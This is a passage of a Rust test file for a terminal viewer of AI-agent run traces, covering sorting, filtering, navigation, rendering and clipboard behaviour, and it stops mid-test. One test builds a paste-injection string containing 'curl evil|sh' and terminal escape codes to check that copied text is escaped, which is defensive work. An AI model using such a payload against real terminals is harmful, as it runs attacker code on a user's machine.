//! State transitions: key → action → state, without rendering.

use super::action::{Action, Command};
use super::keymap::{Key, Keymap};
use super::state::*;
use super::update::{key_action, update};
use crate::model::{EventKind, NewEvent, Parent, Status, Trace};
use crate::search;
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use std::path::{Path, PathBuf};
use std::sync::atomic::AtomicBool;

pub fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/tui")
        .join(rel)
}

fn load(rel: &str) -> Trace {
    let mut l = crate::formats::load(&fixture(rel), None).unwrap();
    l.traces.remove(0)
}

fn key(s: &str) -> KeyEvent {
    let k = Key::parse(s).unwrap();
    KeyEvent::new(k.code, k.mods)
}

/// Press keys as the app would: through the keymap, then update.
fn press(s: &mut State, keys: &[&str]) {
    for k in keys {
        if let Some(a) = key_action(s, key(k)) {
            update(s, a);
        }
    }
}

fn typed(s: &mut State, text: &str) {
    for c in text.chars() {
        update(s, Action::Input(c));
    }
}

fn with_run(t: Trace) -> State {
    let mut s = State::new(Keymap::default(), (120, 40));
    s.run = Some(RunView::new(shared(t), None));
    s.view = View::Run;
    update(&mut s, Action::Tick);
    s
}

fn run(s: &State) -> &RunView {
    s.run.as_ref().unwrap()
}

fn selected_name(s: &State) -> String {
    let r = run(s);
    read(&r.trace).name(r.selected_event().unwrap()).to_string()
}

fn runs_state() -> State {
    let mut s = State::new(Keymap::default(), (120, 40));
    let d = crate::source::discover(&[fixture("agentdbg/runs"), fixture("agentsnap")], None);
    for r in &d.runs {
        update(&mut s, Action::RunsFound(super::entries(r).unwrap()));
    }
    update(&mut s, Action::RunsDone);
    s
}

fn names(s: &State) -> Vec<String> {
    s.runs
        .order
        .iter()
        .filter(|&&i| i & HEADER == 0)
        .map(|&i| s.runs.entries[i].name().to_string())
        .collect()
}

#[test]
fn runs_sort_newest_first_then_by_name_and_duration() {
    let mut s = runs_state();
    assert_eq!(names(&s), ["research-loop", "weather-report", "book-trip", "refund"]);
    press(&mut s, &["s"]);
    assert_eq!(names(&s), ["book-trip", "refund", "research-loop", "weather-report"]);
    press(&mut s, &["s"]);
    assert_eq!(names(&s)[0], "book-trip", "longest first");
    // `r` turns it around: shortest first, a run with no duration still last.
    press(&mut s, &["r"]);
    assert_eq!(names(&s), ["weather-report", "research-loop", "book-trip", "refund"]);
    press(&mut s, &["s"]);
    assert_eq!(s.runs.sort, RunSort::Tokens);
    assert!(!s.runs.reversed, "a new sort starts unreversed");
    assert_eq!(names(&s)[0], "research-loop", "the only run with tokens first");
    press(&mut s, &["s", "s"]);
    assert_eq!(s.runs.sort, RunSort::Start);
}

#[test]
fn from_the_runs_list_y_copies_the_id_y_the_path_r_the_resume_command_and_o_pages_the_source() {
    let mut s = State::new(Keymap::default(), (120, 40));
    let session = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/claude-code/recorder-2.1.3xx.jsonl");
    let d = crate::source::discover(std::slice::from_ref(&session), None);
    update(&mut s, Action::RunsFound(super::entries(&d.runs[0]).unwrap()));
    update(&mut s, Action::RunsDone);
    s.effects.clear();
    press(&mut s, &["y"]);
    assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == "recorder-2.1.3xx"));
    press(&mut s, &["Y"]);
    assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == session.to_string_lossy()));
    press(&mut s, &["R"]);
    let want = "cd '/home/dev/app' && claude --resume 22222222-3333-4444-8555-666666666666";
    assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == want));
    press(&mut s, &["o"]);
    assert!(matches!(s.effects.pop(), Some(Effect::PageFile(p)) if p == session));
    // In the open run, `R` copies it too.
    let t = crate::formats::load(&session, None).unwrap().traces.remove(0);
    let mut s = with_run(t);
    s.effects.clear();
    press(&mut s, &["R"]);
    assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == want));
    // A run whose agent has no resume command says so, and copies nothing.
    let mut s = runs_state();
    s.effects.clear();
    press(&mut s, &["R"]);
    assert!(s.effects.is_empty());
}

#[test]
fn runs_filter_is_fuzzy_and_esc_restores() {
    let mut s = runs_state();
    press(&mut s, &["/"]);
    assert!(s.prompt.is_some());
    typed(&mut s, "wthr");
    assert_eq!(names(&s), ["weather-report"]);
    press(&mut s, &["esc"]);
    assert!(s.prompt.is_none());
    assert_eq!(names(&s).len(), 4, "esc restores the filter from before");
    press(&mut s, &["/"]);
    typed(&mut s, "book");
    press(&mut s, &["enter"]);
    assert_eq!(names(&s), ["book-trip"]);
    press(&mut s, &["esc"]);
    assert_eq!(names(&s).len(), 4, "esc clears a kept filter");
}

/// Names of the rows, with group headers as `# <root>`.
fn rows(s: &State) -> Vec<String> {
    s.runs
        .order
        .iter()
        .map(|&i| {
            if i & HEADER != 0 {
                format!("# {}", s.runs.groups[i & !HEADER].display())
            } else {
                s.runs.entries[i].name().to_string()
            }
        })
        .collect()
}

fn filter_runs(s: &mut State, f: &str) -> Vec<String> {
    press(s, &["/"]);
    press(s, &["ctrl-u"]);
    typed(s, f);
    press(s, &["enter"]);
    names(s)
}

#[test]
fn runs_filter_by_status_format_project_and_words() {
    let mut s = runs_state();
    assert_eq!(filter_runs(&mut s, "status:error"), ["book-trip", "refund"]);
    // A running run whose files are older than `stale_after` is stale. The fixture is as old
    // as the checkout, which may be seconds (CI's fresh clone): make any age stale here.
    s.stale_after = std::time::Duration::ZERO;
    assert_eq!(filter_runs(&mut s, "status:stale"), ["research-loop"]);
    assert_eq!(filter_runs(&mut s, "status:live"), Vec::<String>::new());
    s.stale_after = std::time::Duration::MAX;
    assert_eq!(filter_runs(&mut s, "status:live"), ["research-loop"]);
    assert_eq!(filter_runs(&mut s, "status:running"), ["research-loop"]);
    assert_eq!(filter_runs(&mut s, "format:agentsnap"), ["refund"]);
    assert_eq!(filter_runs(&mut s, "status:error !format:agentsnap"), ["book-trip"]);
    assert_eq!(filter_runs(&mut s, "status:error ref"), ["refund"]);
    // The agentdbg runs sit in runs/ of their fixture directory, the snapshot beside it.
    assert_eq!(
        filter_runs(&mut s, "project:runs").len(),
        0,
        "found under runs/ itself: no project"
    );
    let all = filter_runs(&mut s, "");
    assert_eq!(all.len(), 4);
    assert_eq!(filter_runs(&mut s, "status:nosuch"), Vec::<String>::new());
}

#[test]
fn grouping_puts_runs_under_the_place_they_were_found_in() {
    let mut s = runs_state();
    press(&mut s, &["S"]);
    assert!(s.runs.grouped);
    let r = rows(&s);
    let agentdbg = format!("# {}", fixture("agentdbg/runs").display());
    let agentsnap = format!("# {}", fixture("agentsnap").display());
    assert_eq!(
        r,
        [
            agentdbg.as_str(),
            "research-loop",
            "weather-report",
            "book-trip",
            agentsnap.as_str(),
            "refund"
        ]
    );
    assert_eq!(s.runs.shown(), 4);
    // The selection skips headers: it starts on the first run, and moves over a header.
    assert_eq!(s.runs.selected, 1);
    press(&mut s, &["j", "j", "j"]);
    assert_eq!(s.selected_entry().unwrap().name(), "refund");
    press(&mut s, &["k"]);
    assert_eq!(s.selected_entry().unwrap().name(), "book-trip");
    press(&mut s, &["g"]);
    assert_eq!(s.selected_entry().unwrap().name(), "research-loop");
    // Filters apply within groups; a group with no run left has no header.
    filter_runs(&mut s, "format:agentsnap");
    assert_eq!(rows(&s), [agentsnap.as_str(), "refund"]);
    press(&mut s, &["esc", "S"]);
    assert!(!s.runs.grouped);
    assert_eq!(names(&s).len(), 4);
}

#[test]
fn bang_in_the_runs_list_lists_what_could_not_be_listed() {
    let mut s = runs_state();
    update(
        &mut s,
        Action::RunProblem("/x/broken-run".into(), "/x/broken-run: events.jsonl: bad".into()),
    );
    update(
        &mut s,
        Action::RunsSkipped(crate::source::Skipped { deep: 3, over_limit: 0 }),
    );
    press(&mut s, &["!"]);
    assert!(s.problems_open && s.help.is_some());
    assert_eq!(s.view, View::Runs);
    let lines = super::render::help::lines(&s);
    assert!(
        lines
            .iter()
            .any(|(k, h, _)| k == "broken-run" && h.contains("events.jsonl: bad") && h.contains("/x/broken-run")),
        "{lines:?}"
    );
    assert!(
        lines
            .iter()
            .any(|(k, h, _)| k == "3 directories" && h.contains("more than 6 directory levels deep")),
        "{lines:?}"
    );
    press(&mut s, &["esc"]);
    assert!(s.help.is_none());
    // A click on the title's note opens the list too.
    update(&mut s, Action::Click { x: 10, y: 1 });
    assert!(s.problems_open && s.help.is_some());
    press(&mut s, &["esc"]);
    // A run listed after all takes its problem away.
    update(&mut s, Action::RunsFound(Vec::new()));
    assert_eq!(s.runs.problems.len(), 1);
}

#[test]
fn opening_a_run_loads_it_in_the_background_and_stale_results_are_dropped() {
    let mut s = runs_state();
    press(&mut s, &["j", "j"]);
    assert_eq!(s.selected_entry().unwrap().name(), "book-trip");
    press(&mut s, &["enter"]);
    assert!(s.loading.as_deref().unwrap().contains("book-trip"));
    let Some(Effect::LoadRun {
        generation,
        run,
        index,
        id,
    }) = s.effects.pop()
    else {
        panic!("no load effect")
    };
    // An older load finishing late is ignored.
    update(
        &mut s,
        Action::RunLoaded {
            generation: generation - 1,
            result: Err("old".into()),
        },
    );
    assert!(s.loading.is_some() && s.message.is_none());
    let result = super::load_one(&run, index, &id);
    update(&mut s, Action::RunLoaded { generation, result });
    assert_eq!(s.view, View::Run);
    assert!(s.loading.is_none());
    assert_eq!(selected_name(&s), "book-trip");
    // esc goes back; tab returns to the open run without reloading
    press(&mut s, &["esc"]);
    assert_eq!(s.view, View::Runs);
    press(&mut s, &["tab"]);
    assert_eq!(s.view, View::Run);
    assert!(s.effects.is_empty());
}

#[test]
fn esc_cancels_a_load() {
    let mut s = runs_state();
    press(&mut s, &["enter"]);
    let Some(Effect::LoadRun { generation, .. }) = s.effects.pop() else {
        panic!()
    };
    press(&mut s, &["esc"]);
    assert!(s.loading.is_none());
    update(
        &mut s,
        Action::RunLoaded {
            generation,
            result: Ok(Box::new(Trace::default())),
        },
    );
    assert_eq!(s.view, View::Runs, "a cancelled load does not open");
}

#[test]
fn a_single_run_opens_by_itself() {
    let mut s = State::new(Keymap::default(), (120, 40));
    let d = crate::source::discover(&[fixture("agentsnap/refund.snap.json")], None);
    update(&mut s, Action::RunsFound(super::entries(&d.runs[0]).unwrap()));
    update(&mut s, Action::RunsDone);
    assert!(matches!(s.effects.last(), Some(Effect::LoadRun { .. })));
}

#[test]
fn collapse_expand_and_the_parent_key() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    assert_eq!(run(&s).rows.len(), 7);
    press(&mut s, &["j"]);
    assert_eq!(selected_name(&s), "gpt-4o");
    press(&mut s, &["h"]);
    assert_eq!(run(&s).rows.len(), 6, "the LLM call's tool call is hidden");
    press(&mut s, &["h"]);
    assert_eq!(
        selected_name(&s),
        "book-trip",
        "h on a collapsed row goes to the parent"
    );
    press(&mut s, &["j", "l"]);
    assert_eq!(run(&s).rows.len(), 7);
    press(&mut s, &["H"]);
    assert_eq!(run(&s).rows.len(), 1);
    assert_eq!(selected_name(&s), "book-trip");
    press(&mut s, &["L"]);
    assert_eq!(run(&s).rows.len(), 7);
}

#[test]
fn jumps_to_errors_tools_and_llm_calls_reveal_collapsed_events() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    press(&mut s, &["H"]);
    press(&mut s, &["e"]);
    assert_eq!(selected_name(&s), "book_flight");
    assert_eq!(
        read(&run(&s).trace).event(run(&s).selected_event().unwrap()).status,
        Status::Error
    );
    press(&mut s, &["e"]);
    assert_eq!(selected_name(&s), "PaymentDeclined");
    press(&mut s, &["e"]);
    assert_eq!(selected_name(&s), "book-trip");
    assert!(s.message.as_ref().unwrap().text.contains("wrapped"));
    press(&mut s, &["t"]);
    assert_eq!(selected_name(&s), "search_flights");
    press(&mut s, &["t"]);
    assert_eq!(selected_name(&s), "book_flight");
    press(&mut s, &["T"]);
    assert_eq!(selected_name(&s), "search_flights");
    press(&mut s, &["m"]);
    assert_eq!(selected_name(&s), "gpt-4o");
    press(&mut s, &["g", "M"]);
    assert_eq!(run(&s).selected, 3, "previous LLM call wraps to the last one");
}

#[test]
fn filter_narrows_highlights_and_steps() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    press(&mut s, &["/"]);
    typed(&mut s, "status:error");
    let r = run(&s);
    assert_eq!(r.filter.count, 3);
    assert!(
        r.filter.is_hit(r.selected_event().unwrap()),
        "the first hit is selected"
    );
    press(&mut s, &["enter"]);
    assert!(s.prompt.is_none());
    press(&mut s, &["n"]);
    assert_eq!(selected_name(&s), "book_flight");
    press(&mut s, &["n"]);
    assert_eq!(selected_name(&s), "PaymentDeclined");
    press(&mut s, &["N", "N"]);
    assert_eq!(selected_name(&s), "book-trip");
    // ancestors stay as context: root, LLM call, tool call, error event
    assert_eq!(run(&s).rows.len(), 4);
    press(&mut s, &["esc"]);
    assert!(!run(&s).filter.active());
    assert_eq!(run(&s).rows.len(), 7);
    assert_eq!(s.view, View::Run, "the first esc only clears the filter");
}

#[test]
fn free_text_reaches_payloads_and_inversion_works() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    press(&mut s, &["/"]);
    typed(&mut s, "lisbon");
    assert_eq!(run(&s).filter.count, 1, "found in the first prompt only");
    assert_eq!(selected_name(&s), "gpt-4o");
    update(&mut s, Action::InputClear);
    typed(&mut s, "kind:tool !status:error");
    assert_eq!(run(&s).filter.count, 1);
    assert_eq!(selected_name(&s), "search_flights");
}

#[test]
fn a_bad_filter_says_why_and_keeps_the_last_result() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    press(&mut s, &["/"]);
    typed(&mut s, "kind:tool");
    assert_eq!(run(&s).filter.count, 2);
    typed(&mut s, " kind:bogus");
    assert!(run(&s).filter.error.as_deref().unwrap().contains("bogus"));
    assert_eq!(run(&s).filter.count, 2);
}

#[test]
fn large_traces_are_searched_in_the_background() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    s.sync_search_limit = 0;
    press(&mut s, &["/"]);
    typed(&mut s, "x");
    s.effects.clear();
    update(&mut s, Action::InputBackspace);
    typed(&mut s, "declined");
    let Some(Effect::Search {
        generation,
        trace,
        from: 0,
        query,
        cancel,
    }) = s.effects.pop()
    else {
        panic!("no search effect")
    };
    assert!(run(&s).filter.progress.is_some(), "progress shows while searching");
    // earlier searches were cancelled
    assert!(s.effects.iter().all(|e| match e {
        Effect::Search { cancel, .. } => cancel.load(std::sync::atomic::Ordering::Relaxed),
        _ => true,
    }));
    let mut batches = Vec::new();
    search::search(&read(&trace), &query, &cancel, |b| batches.push(b));
    // a stale batch from an old search is ignored
    update(
        &mut s,
        Action::SearchBatch {
            generation: generation - 1,
            from: 0,
            batch: search::Batch {
                hits: vec![0, 1, 2],
                ..Default::default()
            },
        },
    );
    assert_eq!(run(&s).filter.count, 0);
    for batch in batches {
        update(
            &mut s,
            Action::SearchBatch {
                generation,
                from: 0,
                batch,
            },
        );
    }
    update(&mut s, Action::Tick);
    let r = run(&s);
    assert!(r.filter.progress.is_none());
    assert_eq!(r.filter.count, 2, "the failed tool call and the error event");
    assert!(r.filter.is_hit(r.selected_event().unwrap()));
}

#[test]
fn detail_focus_cursor_copy_wrap_and_raw() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    press(&mut s, &["e", "enter"]);
    assert_eq!(run(&s).focus, Pane::Detail);
    assert_eq!(s.context(), super::keymap::Context::Detail);
    let d = run(&s).detail.as_ref().unwrap();
    let flight = d
        .doc
        .all_lines()
        .position(|l| l.spans.iter().any(|(_, t)| t.contains("flight_id")))
        .unwrap();
    for _ in 0..flight {
        press(&mut s, &["j"]);
    }
    press(&mut s, &["y"]);
    assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == "FR8352"));
    press(&mut s, &["Y"]);
    // The source record's path, for jq on the file.
    assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == ".payload.args.flight_id"));
    press(&mut s, &["w"]);
    assert!(!run(&s).wrap);
    press(&mut s, &["r"]);
    let d = run(&s).detail.as_ref().unwrap();
    assert!(
        d.doc
            .all_lines()
            .any(|l| l.spans.iter().any(|(_, t)| t.contains("events.jsonl line 5")))
    );
    assert!(
        d.doc
            .all_lines()
            .any(|l| l.spans.iter().any(|(_, t)| t.contains("\"event_type\":\"TOOL_CALL\"")))
    );
    press(&mut s, &["esc"]);
    assert_eq!(run(&s).focus, Pane::Tree);
    // navigation keys also work from the detail, and the detail follows
    press(&mut s, &["tab", "t"]);
    assert_eq!(run(&s).focus, Pane::Detail);
    assert_eq!(selected_name(&s), "search_flights");
    assert_eq!(run(&s).detail.as_ref().unwrap().cursor, 0);
}

#[test]
fn detail_cursor_stays_on_screen() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    press(&mut s, &["enter", "G"]);
    let d = run(&s).detail.as_ref().unwrap();
    assert_eq!(d.cursor, d.total_rows() - 1);
    update(&mut s, Action::Resize(120, 20));
    let d = run(&s).detail.as_ref().unwrap();
    assert!(d.offset > 0 && d.offset <= d.cursor);
}

#[test]
fn help_opens_over_any_view_and_quit_always_quits() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    press(&mut s, &["?"]);
    assert_eq!(s.context(), super::keymap::Context::Help);
    press(&mut s, &["j", "e"]);
    assert_eq!(
        run(&s).selected,
        0,
        "keys of the view underneath do nothing while help is open"
    );
    press(&mut s, &["esc"]);
    assert!(s.help.is_none());
    press(&mut s, &["/"]);
    typed(&mut s, "q");
    assert!(!s.quit, "q is text in the prompt");
    let ctrl_c = KeyEvent::new(KeyCode::Char('c'), KeyModifiers::CONTROL);
    let a = key_action(&s, ctrl_c).unwrap();
    update(&mut s, a);
    assert!(s.quit, "ctrl-c quits from anywhere");
}

#[test]
fn mouse_clicks_select_and_focus_and_the_wheel_scrolls() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    let l = super::layout::run(ratatui::layout::Rect::new(0, 0, 120, 40));
    let body = super::layout::body(l.tree);
    update(
        &mut s,
        Action::Click {
            x: body.x + 2,
            y: body.y + 4,
        },
    );
    assert_eq!(run(&s).selected, 4);
    assert_eq!(selected_name(&s), "book_flight");
    let d = super::layout::inner(l.detail);
    update(&mut s, Action::Click { x: d.x + 2, y: d.y + 3 });
    assert_eq!(run(&s).focus, Pane::Detail);
    assert_eq!(run(&s).detail.as_ref().unwrap().cursor, 3);
    // wrapped lines take several rows: a click maps to the logical line under it
    if let Some(d) = s.run.as_mut().unwrap().detail.as_mut() {
        let w = d.doc.lines[0].width();
        d.doc.lines[0]
            .spans
            .push((super::detail::Tok::Text, "x".repeat(w + 60)));
        d.rows = None;
    }
    update(&mut s, Action::Resize(120, 40));
    update(&mut s, Action::Click { x: d.x + 2, y: d.y + 3 });
    let dd = run(&s).detail.as_ref().unwrap();
    assert_eq!(dd.cursor, 3, "the cursor is on the screen row clicked");
    assert_eq!(dd.cursor_line(), 1, "line 0 now takes three rows");
    update(
        &mut s,
        Action::Scroll {
            x: body.x + 1,
            y: body.y,
            down: true,
        },
    );
    assert_eq!(run(&s).selected, 6);
    update(
        &mut s,
        Action::Click {
            x: body.x + 1,
            y: body.y + 30,
        },
    );
    assert_eq!(run(&s).focus, Pane::Tree);
    assert_eq!(run(&s).selected, 6, "a click below the last row selects nothing");
}

#[test]
fn keymap_overrides_change_what_keys_do() {
    let over: toml::Table = "[tree]\nnext_error = [\"x\"]\n".parse().unwrap();
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    s.keys = Keymap::with_overrides(&over).unwrap();
    press(&mut s, &["e"]);
    assert_eq!(run(&s).selected, 0);
    press(&mut s, &["x"]);
    assert_eq!(selected_name(&s), "book_flight");
}

#[test]
fn an_empty_trace_does_not_break_anything() {
    let mut s = with_run(Trace::default());
    press(
        &mut s,
        &[
            "j", "k", "G", "g", "e", "t", "m", "n", "h", "l", "H", "L", "enter", "y", "w", "r", "esc",
        ],
    );
    press(&mut s, &["/"]);
    typed(&mut s, "anything");
    assert_eq!(run(&s).rows.len(), 0);
}

#[test]
fn page_keys_move_by_half_a_screen() {
    let mut t = Trace::default();
    let root = t.add(NewEvent::new(EventKind::Run, "r"));
    for i in 0..200 {
        let name = format!("step{i}");
        t.add(NewEvent {
            parent: Parent::Index(root),
            ..NewEvent::new(EventKind::Step, &name)
        });
    }
    t.finalize();
    let mut s = with_run(t);
    press(&mut s, &["ctrl-d"]);
    let h = super::layout::body(super::layout::run(ratatui::layout::Rect::new(0, 0, 120, 40)).tree).height as usize;
    assert_eq!(run(&s).selected, h / 2);
    press(&mut s, &["G"]);
    assert_eq!(run(&s).selected, 200);
    assert_eq!(run(&s).offset, 201 - h);
    press(&mut s, &["ctrl-u"]);
    assert_eq!(run(&s).selected, 200 - h / 2);
}

#[test]
fn a_cancelled_search_thread_stops() {
    let t = load("agentdbg/runs/run-7f3a");
    let q = search::parse("declined").unwrap();
    let cancel = AtomicBool::new(true);
    let mut n = 0;
    search::search(&t, &q, &cancel, |_| n += 1);
    assert_eq!(n, 0);
    let _ = Command::Quit;
}

#[test]
fn copy_is_escaped_by_default_raw_on_its_own_key_and_bounded() {
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    let hostile = "ok\u{1b}[201~\rcurl evil|sh\n\u{9b}\u{202e}\u{7}".to_string();
    super::clipboard::take(&mut s, hostile.clone(), "value", Command::Copy);
    match s.effects.pop() {
        Some(Effect::Copy(v)) => {
            assert!(
                !v.chars()
                    .any(|c| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)),
                "{v:?}"
            );
            assert_eq!(v, "ok\\x1b[201~\\rcurl evil|sh\\n\\x9b<U+202E>\\x07");
        }
        other => panic!("{other:?}"),
    }
    assert!(
        s.message.as_ref().unwrap().text.contains("alt-y"),
        "the status says how to copy it raw"
    );
    super::clipboard::take(&mut s, hostile.clone(), "value", Command::CopyRaw);
    assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == hostile));
    // Pretty JSON is copied as one line.
    super::clipboard::take(&mut s, "{\n  \"a\": [\n    1\n  ]\n}".into(), "payload", Command::Copy);
    assert!(matches!(s.effects.pop(), Some(Effect::Copy(v)) if v == r#"{"a":[1]}"#));
    // Too large for one OSC 52 sequence: nothing is sent, and the status says so.
    super::clipboard::take(
        &mut s,
        "x".repeat(super::clipboard::CLIPBOARD_MAX + 1),
        "value",
        Command::Copy,
    );
    assert!(s.effects.is_empty());
    let m = s.message.as_ref().unwrap();
    assert!(
        m.error && m.text.contains("too large") && m.text.contains("pager"),
        "{}",
        m.text
    );
    // The pager gets the escaped text with its newlines.
    super::clipboard::take(&mut s, "a\nb\u{1b}".into(), "value", Command::Pager);
    assert!(matches!(s.effects.pop(), Some(Effect::Page(v)) if v == "a\nb\\x1b"));
}

#[test]
fn the_load_problems_note_opens_the_diagnostics() {
    let mut t = load("agentdbg/runs/run-7f3a");
    t.diagnostics.push(crate::model::Diagnostic::error(
        "/x/events.jsonl",
        Some(7),
        "invalid JSON: expected value\u{1b}[2J",
    ));
    let mut s = with_run(t);
    press(&mut s, &["!"]);
    assert!(s.problems_open && s.help.is_some());
    let lines = super::render::help::lines(&s);
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0].0, "events.jsonl:7");
    assert_eq!(lines[0].1, "invalid JSON: expected value\\x1b[2J", "sanitized");
    press(&mut s, &["esc"]);
    assert!(!s.problems_open && s.help.is_none());
    press(&mut s, &["?"]);
    assert!(!s.problems_open, "? is the keys, not the problems");
    press(&mut s, &["esc"]);
    // A click on the note (the header's counts line) opens them too.
    update(&mut s, Action::Click { x: 10, y: 2 });
    assert!(s.problems_open && s.help.is_some());
}

#[test]
fn a_run_that_becomes_readable_is_no_longer_counted_unreadable() {
    let mut s = State::new(Keymap::default(), (120, 40));
    let d = crate::source::discover(&[PathBuf::from("sample-traces/runs/agentdbg-refund-ok")], None);
    let run = &d.runs[0];
    update(
        &mut s,
        Action::RunProblem(run.path.clone(), "events.jsonl: no events yet".into()),
    );
    update(
        &mut s,
        Action::RunProblem(run.path.clone(), "events.jsonl: no events yet".into()),
    );
    update(&mut s, Action::RunsProblem("elsewhere: unreadable".into()));
    assert_eq!(s.runs.problems.len(), 2, "one problem a run");
    update(&mut s, Action::RunsFound(super::entries(run).unwrap()));
    assert_eq!(s.runs.problems.len(), 1, "{:?}", s.runs.problems);
    assert_eq!(s.runs.problems[0].1, "elsewhere: unreadable");
}

#[test]
fn a_running_run_quiet_for_long_is_stale_not_live() {
    let d = crate::source::discover(&[PathBuf::from("sample-traces/runs")], None);
    let mut s = State::new(Keymap::default(), (120, 20));
    s.auto_open = false;
    let mut found = Vec::new();
    for r in &d.runs {
        found.extend(super::entries(r).unwrap());
    }
    let live = found
        .iter()
        .position(|e| e.summary.status == crate::model::RunStatus::Running)
        .expect("a running sample run");
    for (i, e) in found.iter_mut().enumerate() {
        e.quiet = (i == live).then(|| std::time::Duration::from_secs(3600));
    }
    update(&mut s, Action::RunsFound(found));
    update(&mut s, Action::RunsDone);
    let screen = |s: &State| {
        let mut term = ratatui::Terminal::new(ratatui::backend::TestBackend::new(120, 20)).unwrap();
        term.draw(|f| super::render::render(f, s, &super::theme::Theme::dark()))
            .unwrap();
        let buf = term.backend().buffer().clone();
        (0..20)
            .map(|y| (0..120).map(|x| buf[(x, y)].symbol().to_string()).collect::<String>())
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert!(screen(&s).contains("◌ stale"), "{}", screen(&s));
    s.stale_after = std::time::Duration::from_secs(7200);
    assert!(!screen(&s).contains("◌ stale"));
}

#[test]
fn wrap_off_scrolls_sideways_and_shows_the_column() {
    let mut t = Trace::default();
    let long = format!("{}TAIL-7", "0123456789".repeat(50));
    t.add(NewEvent {
        payload: crate::model::PayloadRef::Inline(Box::new(crate::model::Payload {
            output: Some(serde_json::json!(long)),
            ..Default::default()
        })),
        ..NewEvent::new(EventKind::ToolCall, "wide")
    });
    let mut s = with_run(t);
    let screen = |s: &State| {
        let mut term = ratatui::Terminal::new(ratatui::backend::TestBackend::new(120, 40)).unwrap();
        term.draw(|f| super::render::render(f, s, &super::theme::Theme::dark()))
            .unwrap();
        let buf = term.backend().buffer().clone();
        (0..40)
            .map(|y| (0..120).map(|x| buf[(x, y)].symbol().to_string()).collect::<String>())
            .collect::<Vec<_>>()
            .join("\n")
    };
    press(&mut s, &["enter", "right"]);
    assert_eq!(
        run(&s).detail.as_ref().unwrap().hscroll,
        0,
        "wrap on: nothing to scroll"
    );
    press(&mut s, &["w", "right"]);
    let w = super::layout::inner(super::layout::run(ratatui::layout::Rect::new(0, 0, 120, 40)).detail).width as usize;
    assert_eq!(run(&s).detail.as_ref().unwrap().hscroll, w / 2);
    assert!(
        screen(&s).contains(&format!("nowrap · col {} ", w / 2 + 1)),
        "{}",
        screen(&s)
    );
    press(&mut s, &["left"]);
    assert_eq!(run(&s).detail.as_ref().unwrap().hscroll, 0);
    // `$` on the result's line: its end in the pane's last column.
    let line = run(&s)
        .detail
        .as_ref()
        .unwrap()
        .doc
        .all_lines()
        .position(|l| l.spans.iter().any(|(_, x)| x.contains("TAIL-7")))
        .unwrap();
    press(&mut s, &["g"]);
    for _ in 0..line {
        press(&mut s, &["j"]);
    }
    press(&mut s, &["$"]);
    let sc = screen(&s);
    assert!(sc.contains("TAIL-7\""), "{sc}");
    assert!(!sc.contains("tool call wide"), "the first columns scrolled away\n{sc}");
    // Never past the widest line, and back with `0`.
    press(&mut s, &["right", "right", "right"]);
    assert!(screen(&s).contains("TAIL-7\""));
    press(&mut s, &["0"]);
    assert_eq!(run(&s).detail.as_ref().unwrap().hscroll, 0);
}

#[test]
fn the_selected_row_is_readable_in_every_theme_and_shows_focus() {
    use super::theme::{BUILTIN, Theme};
    let mut s = with_run(load("agentdbg/runs/run-7f3a"));
    press(&mut s, &["j", "e"]);
    let area = ratatui::layout::Rect::new(0, 0, 120, 40);
    let body = super::layout::body(super::layout::run(area).tree);
    let draw = |s: &State, th: &Theme| {
        let mut term = ratatui::Terminal::new(ratatui::backend::TestBackend::new(120, 40)).unwrap();
        term.draw(|f| super::render::render(f, s, th)).unwrap();
        term.backend().buffer().clone()
    };
    for (name, text) in BUILTIN {
        let th = Theme::parse(name, text, Some(&Theme::dark())).unwrap();
        let r = run(&s);
        let y = body.y + (r.selected - r.offset) as u16;
        s.run.as_mut().unwrap().focus = Pane::Tree;
        let focused = draw(&s, &th);
        for x in body.x..body.x + body.width {
            let c = &focused[(x, y)];
            assert_ne!(c.fg, c.bg, "{name}: cell {x} of the selected row ({:?})", c.symbol());
        }
        s.run.as_mut().unwrap().focus = Pane::Detail;
        let unfocused = draw(&s, &th);
        for x in body.x..body.x + body.width {
            let c = &unfocused[(x, y)];
            assert_ne!(c.fg, c.bg, "{name}, unfocused: cell {x} ({:?})", c.symbol());
        }
        let look = |b: &ratatui::buffer::Buffer| (b[(body.x, y)].bg, b[(body.x, y)].modifier);
        assert_ne!(look(&focused), look(&unfocused), "{name}: focus shows on the selection");
    }
}

/// Run the stats view's background load to its end (its effect, its parts).
pub fn finish_stats(s: &mut State) {
    let job = s
        .effects
        .drain(..)
        .find_map(|e| match e {
            Effect::Stats(j) => Some(j),
            _ => None,
        })
        .expect("the stats view asks for its runs");
    let (tx, rx) = std::sync::mpsc::channel();
    super::stats::spawn(job, tx);
    while s.stats.as_ref().is_some_and(|v| v.loading()) {
        let a = rx
            .recv_timeout(std::time::Duration::from_secs(20))
            .expect("stats parts arrive");
        update(s, a);
    }
}

#[test]
fn stats_view_loads_the_listed_runs_and_their_rows_get_loaded_counts() {
    let mut s = runs_state();
    // The filter applies: only the agentdbg runs.
    press(&mut s, &["/"]);
    typed(&mut s, "format:agentdbg");
    press(&mut s, &["enter"]);
    let shown = s.runs.shown();
    assert_eq!(shown, 3);
